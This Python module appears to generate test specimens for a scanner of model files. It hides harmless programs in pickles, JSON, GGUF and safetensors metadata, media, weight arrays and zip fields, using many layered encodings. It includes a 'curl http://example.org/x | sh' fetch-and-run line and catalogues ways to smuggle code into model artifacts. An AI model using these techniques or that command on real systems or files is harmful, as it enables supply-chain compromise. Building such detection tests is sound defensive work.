"""Harmless programs carried where data should be, under encodings; never loaded."""

import base64
import io
import json
import pickle
import random
import struct
import zipfile
import zlib
from collections.abc import Callable

from specimens.media import PARTS
from specimens.pickles import binary, hostile, npy, proto, text
from specimens.tensors import elf, entry, gguf, safetensors

CODE = b"import os\nos.system('true')\n"
SHELL = b"#!/bin/sh\ncurl http://example.org/x | sh\n"
PROGRAMS = {"pickle": hostile(), "elf": elf(), "code": CODE, "shell": SHELL}
Wrap = Callable[[bytes], bytes]
WRAPS: dict[str, Wrap] = {
    "base64": base64.b64encode,
    "hex": lambda data: data.hex().encode(),
    "base32": base64.b32encode,
    "base85": base64.b85encode,
    "ascii85": base64.a85encode,
    "zlib in base64": lambda data: base64.b64encode(zlib.compress(data)),
    "zlib in hex": lambda data: zlib.compress(data).hex().encode(),
    "zlib in base85": lambda data: base64.b85encode(zlib.compress(data)),
    "base64 in base64": lambda data: base64.b64encode(base64.b64encode(data)),
    "base64 in zlib in hex": lambda data: (
        zlib.compress(base64.b64encode(data)).hex().encode()
    ),
    "base64 reversed": lambda data: base64.b64encode(data)[::-1],
    "reversed in base64": lambda data: base64.b64encode(data[::-1]),
}


def _encoded() -> dict[str, bytes]:
    return {
        f"{kind} in {name}": wrap(data)
        for kind, data in PROGRAMS.items()
        for name, wrap in WRAPS.items()
    }


def in_pickles() -> dict[str, bytes]:
    """Return pickles of plain data, one value of which is a program."""
    found = {}
    for title, data in _encoded().items():
        for form, value in (("bytes", binary(data)), ("text", text(data.decode()))):
            body = b"}" + text("note") + value + b"s."
            found[f"{title} as {form}.pkl"] = proto(4) + body
    return found


def in_texts() -> dict[str, bytes]:
    """Return documents and settings that spell a program."""
    found = {}
    for title, data in _encoded().items():
        settings = {"model_type": "bert", "note": data.decode()}
        found[f"{title}.json"] = json.dumps(settings).encode()
        found[f"{title}.txt"] = b"some notes\n\n" + data + b"\n\nthe end\n"
        found[f"{title}.md"] = b"# A model\n\n```\n" + data + b"\n```\n"
    return found


def in_metadata() -> dict[str, bytes]:
    """Return weights whose metadata spells a program."""
    found = {}
    for title, data in _encoded().items():
        note = data.decode()
        found[f"{title}.gguf"] = gguf().text("general.description", note).build()
        header = {"__metadata__": {"note": note}, "w": entry("F32", [4], 0, 16)}
        found[f"{title}.safetensors"] = safetensors(header)
    return found


def in_stages() -> dict[str, bytes]:
    """Return pickles of plain data in one of which the last one acts."""
    second = pickle.dumps({"second": hostile()}, 4)
    third = pickle.dumps({"third": second, "size": 1}, 2)
    found = {}
    for title, stage in (("two", second), ("three", third)):
        found[f"{title}.pkl"] = pickle.dumps({"first": stage}, 4)
        found[f"{title} packed.pkl"] = pickle.dumps([zlib.compress(stage)], 4)
        for name, wrap in WRAPS.items():
            if "revers" in name:
                continue
            data = wrap(stage)
            found[f"{title} in {name}.pkl"] = pickle.dumps({"first": data}, 4)
            found[f"{title} in {name}.json"] = json.dumps(
                {"model_type": "bert", "note": data.decode()}
            ).encode()
    return found


def in_media() -> dict[str, bytes]:
    """Return sound and pictures that carry a program in what players skip."""
    programs = {
        **PROGRAMS,
        "base64": base64.b64encode(hostile()),
        "zlib": base64.b64encode(zlib.compress(elf())),
    }
    return {
        f"{kind} in {name}": put(data)
        for kind, data in programs.items()
        for name, put in PARTS.items()
    }


def in_weights() -> dict[str, bytes]:
    """Return numbers with a program in their middle."""
    chance = random.Random(1)  # noqa: S311 - noise, not secrets
    floats = struct.pack("<4096f", *(chance.gauss(0, 0.02) for _ in range(4096)))
    found = {}
    for kind in ("pickle", "elf", "shell"):
        program = PROGRAMS[kind]
        data = floats + program + bytes(-len(program) % 4) + floats
        header = {"w": entry("F32", [len(data) // 4], 0, len(data))}
        found[f"{kind} amid.safetensors"] = safetensors(header, data)
        found[f"{kind} amid.gguf"] = gguf().tensor("x", [len(data) // 4], data).build()
        found[f"{kind} amid.npy"] = npy("'|u1'", (len(data),), data)
        found[f"{kind} amid.bin"] = data
        found[f"{kind} beside a member.zip"] = beside_member(program)
    return found


def beside_member(program: bytes) -> bytes:
    """Return a zip whose member has an extra field and a comment."""
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w") as archive:
        member = zipfile.ZipInfo("notes.txt")
        member.comment = b"a comment: " + program
        member.extra = struct.pack("<HH", 0xCAFE, len(program)) + program
        archive.writestr(member, "some notes")
    return stream.getvalue()
